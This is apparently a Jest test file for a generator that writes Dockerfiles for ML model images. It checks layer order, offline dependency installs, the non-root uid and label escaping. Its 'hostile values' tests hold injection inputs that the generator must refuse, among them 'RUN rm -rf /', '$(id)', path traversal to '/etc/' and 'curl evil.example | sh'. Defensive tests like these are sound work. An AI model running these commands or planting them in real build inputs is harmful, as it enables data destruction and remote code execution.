import {
  ContractErrorCode,
  modelVersion,
  readManifestFile,
  type Manifest,
} from '@ml-run/model-contract';

import { EXAMPLES } from '../../testing/test-bundles';
import { planDependencies, type DependencyPlan } from './dependency-plan';
import { dockerfileFor, fetchDockerfileFor, rPackagesDockerfileFor } from './dockerfile';
import { IMAGE_LABELS } from './image-labels';
import type { ImageOptions } from './image-options';
import { ImageContextErrorCode } from './image.errors';

const EXAMPLE_DIRS = {
  ...EXAMPLES,
  fraud: EXAMPLES.iris.replace('iris-python', 'fraud-score-python'),
};
const BASE = '127.0.0.1:5000/ml-run/base:abc123def456';
const BUNDLE_SHA = '5b1c0e6f3f0a4f7c9d2e8b1a6c3d5e7f9a0b2c4d6e8f1a3b5c7d9e0f2a4b6c8d';
const FETCH_IMAGE = 'ml-run-deps/iris:1.0.0_3f9a1b2c4d5e';
const DIGEST = '3f9a1b2c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8';

type Instruction = { keyword: string; args: string };

// Logical instructions: comments and blank lines dropped, "\"-continued lines joined.
function instructions(dockerfile: string): Instruction[] {
  const result: Instruction[] = [];
  let pending: string[] = [];
  for (const line of dockerfile.split('\n')) {
    if (pending.length === 0 && (line.trim() === '' || line.startsWith('#'))) continue;
    const continued = line.endsWith(' \\');
    pending.push((continued ? line.slice(0, -2) : line).trim());
    if (continued) continue;
    const full = pending.join(' ');
    pending = [];
    const space = full.indexOf(' ');
    result.push({ keyword: full.slice(0, space), args: full.slice(space + 1) });
  }
  return result;
}

// What Docker makes of a double-quoted word: \" \$ \\ are escapes, other "\" stay.
function unquote(word: string): string {
  return word.slice(1, -1).replace(/\\(["$\\])/g, '$1');
}

// KEY="value" pairs of an ENV or LABEL instruction, unquoted as Docker does.
function pairs(args: string): Record<string, string> {
  const found: Record<string, string> = {};
  for (const match of args.matchAll(/([A-Za-z0-9_.-]+)=("(?:[^"\\]|\\.)*")/g)) {
    found[match[1] as string] = unquote(match[2] as string);
  }
  return found;
}

const one = (list: Instruction[], keyword: string) => {
  const found = list.filter((i) => i.keyword === keyword);
  expect(found).toHaveLength(1);
  return found[0] as Instruction;
};

function optionsFor(manifest: Manifest, dependencies?: DependencyPlan): ImageOptions {
  return {
    baseImage: BASE,
    bundleSha256: BUNDLE_SHA,
    coefficientsDigest: DIGEST,
    version: modelVersion(manifest.codeVersion, DIGEST),
    ...(dependencies === undefined ? {} : { dependencies, fetchImage: FETCH_IMAGE }),
  };
}

describe(dockerfileFor.name, () => {
  let manifests: Record<keyof typeof EXAMPLE_DIRS, Manifest>;

  beforeAll(async () => {
    manifests = {
      iris: await readManifestFile(EXAMPLE_DIRS.iris),
      echo: await readManifestFile(EXAMPLE_DIRS.echo),
      fraud: await readManifestFile(EXAMPLE_DIRS.fraud),
    };
  });

  describe('snapshots of the examples', () => {
    it.each(Object.keys(EXAMPLE_DIRS) as (keyof typeof EXAMPLE_DIRS)[])(
      'matches the Dockerfile of %s',
      async (example) => {
        const manifest = manifests[example];
        const plan = await planDependencies(EXAMPLE_DIRS[example], manifest.runtime);
        expect(dockerfileFor(manifest, optionsFor(manifest, plan))).toMatchSnapshot();
      },
    );

    it.each([
      ['iris with requirements.txt', 'iris', { kind: 'pip' }],
      ['echo with package-lock.json', 'echo', { kind: 'npm', lockFile: 'package-lock.json' }],
      ['echo with package.json only', 'echo', { kind: 'npm' }],
    ] as const)('matches the Dockerfile of %s', (_name, example, plan) => {
      const manifest = manifests[example];
      expect(dockerfileFor(manifest, optionsFor(manifest, plan))).toMatchSnapshot();
    });
  });

  describe('layer rules', () => {
    const build = (plan?: DependencyPlan) =>
      instructions(dockerfileFor(manifests.iris, optionsFor(manifests.iris, plan)));

    it('starts FROM the base image', () => {
      expect(build()[0]).toEqual({ keyword: 'FROM', args: BASE });
    });

    it('copies the coefficients last, after every other filesystem change', () => {
      const sut = build({ kind: 'pip' });
      const changes = sut.filter((i) => ['COPY', 'ADD', 'RUN', 'WORKDIR'].includes(i.keyword));
      expect(changes.at(-1)).toEqual({ keyword: 'COPY', args: 'coefficients/ /opt/ml-run/model/' });
      expect(sut.filter((i) => i.keyword === 'COPY').map((i) => i.args)).toEqual([
        '--from=deps --chown=0:0 /home/mlrun/deps/ /opt/ml-run/deps/',
        'wrapper/ /opt/ml-run/wrapper/',
        'model/ /opt/ml-run/model/',
        'coefficients/ /opt/ml-run/model/',
      ]);
    });

    it('installs wheels offline in a deps stage from the fetch image, before the wrapper and code', () => {
      const sut = build({ kind: 'pip' });
      const at = (keyword: string, args: string) =>
        sut.findIndex((i) => i.keyword === keyword && i.args === args);
      expect(sut[0]).toEqual({ keyword: 'FROM', args: `${FETCH_IMAGE} AS deps` });
      expect(sut[1]).toEqual({
        keyword: 'RUN',
        args:
          'python3 -m pip install --no-index --find-links /home/mlrun/wheels --no-cache-dir ' +
          '--disable-pip-version-check --no-input --only-binary=:all: ' +
          '--target /home/mlrun/deps -r /home/mlrun/project/requirements.txt',
      });
      const copy = at('COPY', '--from=deps --chown=0:0 /home/mlrun/deps/ /opt/ml-run/deps/');
      expect(at('FROM', BASE)).toBeLessThan(copy);
      expect(copy).toBeLessThan(at('COPY', 'wrapper/ /opt/ml-run/wrapper/'));
      expect(copy).toBeLessThan(at('COPY', 'model/ /opt/ml-run/model/'));
    });

    it('lets pip take sdists only when the plan allows source builds', () => {
      const run = (plan: DependencyPlan) => build(plan).find((i) => i.keyword === 'RUN')?.args;
      expect(run({ kind: 'pip', sourceBuilds: true })).not.toContain('--only-binary');
      expect(run({ kind: 'pip' })).toContain('--only-binary=:all:');
    });

    it('copies node_modules from the fetch image, running npm scripts only for source builds', () => {
      const echo = (plan: DependencyPlan) =>
        instructions(dockerfileFor(manifests.echo, optionsFor(manifests.echo, plan)));
      const plain = echo({ kind: 'npm' });
      expect(plain.filter((i) => i.keyword === 'RUN')).toEqual([]);
      expect(plain).toContainEqual({
        keyword: 'COPY',
        args: '--from=deps --chown=0:0 /home/mlrun/project/node_modules/ /opt/ml-run/model/node_modules/',
      });
      expect(one(echo({ kind: 'npm', sourceBuilds: true }), 'RUN').args).toMatch(
        /^node \/home\/mlrun\/npm-cli\/bin\/npm-cli\.js rebuild --offline /,
      );
    });

    it('has no dependencies layer when the bundle declares none', () => {
      const sut = build();
      expect(sut.map((i) => i.keyword)).not.toContain('RUN');
      expect(sut.filter((i) => i.keyword === 'COPY')).toHaveLength(3);
      expect(JSON.stringify(sut)).not.toMatch(/requirements\.txt|\/opt\/ml-run\/deps|PYTHONPATH/);
    });

    it('runs nothing in the model image itself: only the deps stage runs, as the fetch image user', () => {
      const echo = (plan: DependencyPlan) =>
        instructions(dockerfileFor(manifests.echo, optionsFor(manifests.echo, plan)));
      for (const sut of [build({ kind: 'pip' }), echo({ kind: 'npm', sourceBuilds: true })]) {
        const image = sut.slice(sut.findIndex((i) => i.keyword === 'FROM' && i.args === BASE));
        expect(image.map((i) => i.keyword)).not.toContain('RUN');
        expect(sut.filter((i) => i.keyword === 'USER')).toHaveLength(1);
      }
    });

    // Numeric: Kubernetes' runAsNonRoot (PodSecurity restricted, OpenShift's restricted-v2)
    // can check a uid only, and refuses an image whose USER is a name.
    it('runs as the numeric non-root uid 10001, after everything that writes files', () => {
      const sut = build({ kind: 'pip' });
      const user = sut.findIndex((i) => i.keyword === 'USER');
      expect(sut[user]?.args).toBe('10001');
      const after = sut.slice(user).map((i) => i.keyword);
      for (const writer of ['RUN', 'COPY', 'ADD', 'WORKDIR']) expect(after).not.toContain(writer);
      expect(sut.filter((i) => i.keyword === 'USER')).toHaveLength(1);
    });

    it('checks health on /readyz with node (the base has no curl)', () => {
      const sut = one(build(), 'HEALTHCHECK').args;
      expect(sut).toMatch(
        /^--interval=10s --timeout=5s --start-period=40s --retries=3 CMD node -e /,
      );
      expect(sut).toContain("fetch('http://127.0.0.1:${MLRUN_PORT:-9000}/readyz')");
    });

    it('starts the wrapper in exec form', () => {
      expect(one(build(), 'CMD').args).toBe('["node", "/opt/ml-run/wrapper/main.js"]');
    });

    it('sets the wrapper environment, with PYTHONPATH only for python dependencies', () => {
      expect(pairs(one(build({ kind: 'pip' }), 'ENV').args)).toEqual({
        MLRUN_MODEL_DIR: '/opt/ml-run/model',
        MLRUN_MODEL_NAME: 'iris',
        MLRUN_HOST: '127.0.0.1',
        PYTHONPATH: '/opt/ml-run/deps',
      });
      expect(pairs(one(build(), 'ENV').args)).not.toHaveProperty('PYTHONPATH');
    });

    it('labels the image with name, versions and digests', () => {
      const version = modelVersion('1.0.0', DIGEST);
      expect(pairs(one(build(), 'LABEL').args)).toEqual({
        [IMAGE_LABELS.name]: 'iris',
        [IMAGE_LABELS.version]: version,
        [IMAGE_LABELS.runtime]: 'python',
        [IMAGE_LABELS.entry]: 'model.py',
        [IMAGE_LABELS.codeVersion]: '1.0.0',
        [IMAGE_LABELS.coefficientsVersion]: '2026-11-28',
        [IMAGE_LABELS.coefficientsDigest]: DIGEST,
        [IMAGE_LABELS.bundleSha256]: BUNDLE_SHA,
        [IMAGE_LABELS.title]: 'iris',
        [IMAGE_LABELS.ociVersion]: version,
        [IMAGE_LABELS.baseName]: BASE,
      });
    });

    it('labels the coefficients version with the digest prefix when the manifest has none', () => {
      const sut = instructions(dockerfileFor(manifests.echo, optionsFor(manifests.echo)));
      expect(pairs(one(sut, 'LABEL').args)[IMAGE_LABELS.coefficientsVersion]).toBe(
        DIGEST.slice(0, 12),
      );
    });

    it('gives the same text for the same inputs', () => {
      const options = optionsFor(manifests.fraud, { kind: 'pip' });
      expect(dockerfileFor(manifests.fraud, options)).toBe(
        dockerfileFor(structuredClone(manifests.fraud), { ...options }),
      );
    });

    it('changes only metadata after the coefficients COPY when only the coefficients change', () => {
      const other = 'e'.repeat(64);
      const before = build({ kind: 'pip' });
      const after = instructions(
        dockerfileFor(manifests.iris, {
          ...optionsFor(manifests.iris, { kind: 'pip' }),
          coefficientsDigest: other,
          version: modelVersion('1.0.0', other),
        }),
      );
      const lastCopy = before.findIndex((i) => i.args === 'coefficients/ /opt/ml-run/model/');
      expect(after.slice(0, lastCopy + 1)).toEqual(before.slice(0, lastCopy + 1));
      const changed = after.filter((i, n) => i.args !== before[n]?.args).map((i) => i.keyword);
      expect(changed).toEqual(['LABEL']);
    });
  });

  describe('hostile values', () => {
    const withManifest = (patch: Partial<Manifest>) => {
      const manifest = { ...manifests.iris, ...patch };
      // The options of the valid iris manifest: the manifest check is what refuses.
      return () => dockerfileFor(manifest, optionsFor(manifests.iris));
    };
    const refusedAsManifest = (patch: Partial<Manifest>) =>
      expect(withManifest(patch)).toThrow(
        expect.objectContaining({ code: ContractErrorCode.ManifestInvalid }),
      );

    it.each([
      ['a name with a quote and a newline', { name: 'iris"\nRUN rm -rf /' }],
      ['a name with "$"', { name: 'iris$HOME' }],
      ['a code version with a command', { codeVersion: '1.0.0$(id)' }],
      ['a coefficients path out of the bundle', { coefficients: { path: '../secrets/' } }],
      ['an absolute coefficients path', { coefficients: { path: '/etc/' } }],
      ['a coefficients version with a newline', { coefficients: { path: 'c/', version: 'a\nb' } }],
      ['an entry with a newline', { entry: 'model\nRUN id.py' }],
      ['an entry out of the bundle', { entry: '../model.py' }],
    ])('refuses %s', (_name, patch) => {
      refusedAsManifest(patch as Partial<Manifest>);
    });

    it('escapes quotes and "$" in values the manifest allows', () => {
      const entry = 'src/we "ird" $HOME ${X} `id` m.py';
      const text = withManifest({ entry })();
      const sut = instructions(text);
      expect(text).toContain('run.ml.entry="src/we \\"ird\\" \\$HOME \\${X} `id` m.py"');
      expect(pairs(one(sut, 'LABEL').args)[IMAGE_LABELS.entry]).toBe(entry);
      expect(sut.map((i) => i.keyword)).toEqual(
        instructions(withManifest({})()).map((i) => i.keyword),
      );
    });

    it.each([
      ['a base image with a space', { baseImage: 'base:1 AS x' }],
      ['a base image with a newline', { baseImage: 'base:1\nRUN id' }],
      ['a base image with "$"', { baseImage: 'base:$TAG' }],
      ['a short bundle sha256', { bundleSha256: 'abc' }],
      ['an upper-case digest', { coefficientsDigest: DIGEST.toUpperCase() }],
      ['a version that disagrees with the digest', { version: '1.0.0+000000000000' }],
      ['a version with another code version', { version: modelVersion('2.0.0', DIGEST) }],
      ['an npm plan for a python model', { dependencies: { kind: 'npm' } }],
    ] as const)('refuses %s', (_name, patch) => {
      const options = { ...optionsFor(manifests.iris), ...patch } as ImageOptions;
      expect(() => dockerfileFor(manifests.iris, options)).toThrow(
        expect.objectContaining({ code: ImageContextErrorCode.InvalidOption }),
      );
    });

    it('refuses dependency files that lie under the coefficients path', () => {
      const manifest = { ...manifests.iris, coefficients: { path: 'requirements.txt' } };
      expect(() => dockerfileFor(manifest, optionsFor(manifest, { kind: 'pip' }))).toThrow(
        /requirements\.txt lies under coefficients\.path/,
      );
    });

    it('accepts registry references with ports, paths, tags and digests', () => {
      for (const baseImage of [
        'localhost/base',
        'registry.example.com:443/team/ml-run_base:1.2.3-rc.1',
        `base@sha256:${'0'.repeat(64)}`,
      ]) {
        const text = dockerfileFor(manifests.iris, { ...optionsFor(manifests.iris), baseImage });
        expect(text).toContain(`\nFROM ${baseImage}\n`);
      }
    });
  });
});

describe(fetchDockerfileFor.name, () => {
  const fetch = (plan: DependencyPlan, caBundle = false) =>
    instructions(fetchDockerfileFor(plan, { baseImage: BASE, caBundle }));

  it('fetches as uid 10001, copying in the dependency files alone', () => {
    const sut = fetch({ kind: 'pip' });
    expect(sut.slice(0, 3)).toEqual([
      { keyword: 'FROM', args: BASE },
      { keyword: 'USER', args: '10001:10001' },
      { keyword: 'RUN', args: 'mkdir -p /home/mlrun/project' },
    ]);
    expect(sut.filter((i) => i.keyword === 'COPY').map((i) => i.args)).toEqual([
      '--chown=10001:10001 model/requirements.txt /home/mlrun/project/',
    ]);
  });

  it('downloads wheels only, unless the plan allows source builds', () => {
    const run = (plan: DependencyPlan) => fetch(plan).at(-1)?.args;
    expect(run({ kind: 'pip' })).toBe(
      'python3 -m pip download --no-cache-dir --disable-pip-version-check --no-input ' +
        '--only-binary=:all: --dest /home/mlrun/wheels -r /home/mlrun/project/requirements.txt',
    );
    expect(run({ kind: 'pip', sourceBuilds: true })).not.toContain('--only-binary');
  });

  it('unpacks npm packages with the builder npm and never their scripts', () => {
    const run = (plan: DependencyPlan) => fetch(plan).at(-1)?.args;
    const cli = 'node /home/mlrun/npm-cli/bin/npm-cli.js';
    expect(run({ kind: 'npm', lockFile: 'package-lock.json' })).toMatch(
      new RegExp(`^${cli} ci --omit=dev --ignore-scripts `),
    );
    expect(run({ kind: 'npm', sourceBuilds: true })).toMatch(
      new RegExp(`^${cli} install --no-package-lock --omit=dev --ignore-scripts `),
    );
    expect(
      fetch({ kind: 'npm' })
        .filter((i) => i.keyword === 'COPY')
        .map((i) => i.args),
    ).toEqual([
      'npm/ /home/mlrun/npm-cli/',
      '--chown=10001:10001 model/package.json /home/mlrun/project/',
    ]);
  });

  it('trusts the CA bundle of the context when there is one', () => {
    const sut = fetch({ kind: 'pip' }, true);
    expect(sut).toContainEqual({ keyword: 'COPY', args: 'ca.pem /home/mlrun/ca.pem' });
    expect(sut).toContainEqual({
      keyword: 'ENV',
      args: 'PIP_CERT=/home/mlrun/ca.pem NPM_CONFIG_CAFILE=/home/mlrun/ca.pem',
    });
  });
});

describe(rPackagesDockerfileFor.name, () => {
  const R_BASE = '127.0.0.1:5000/ml-run/base-r:abc123def456';

  it('apt-installs the Debian packages as root in the build, then runs as uid 10001', () => {
    const steps = instructions(
      rPackagesDockerfileFor(['r-cran-data.table', 'r-cran-rcpp'], R_BASE),
    );
    expect(steps.map((step) => step.keyword)).toEqual(['FROM', 'USER', 'RUN', 'USER']);
    expect(steps[0].args).toBe(R_BASE);
    expect(steps[2].args).toContain(
      'apt-get install -y -qq --no-install-recommends r-cran-data.table r-cran-rcpp',
    );
    expect(steps[2].args).toContain('rm -rf /var/lib/apt/lists/*');
    expect(steps[3].args).toBe('10001:10001');
  });

  it.each([['r-cran-x; curl evil.example | sh'], ['R-CRAN-Rcpp'], ['libssl-dev'], ['-o=APT::x']])(
    'refuses %s, which is no Debian r-cran package name',
    (name) => {
      expect(() => rPackagesDockerfileFor([name], R_BASE)).toThrow(
        expect.objectContaining({ code: ImageContextErrorCode.InvalidOption }),
      );
    },
  );
});
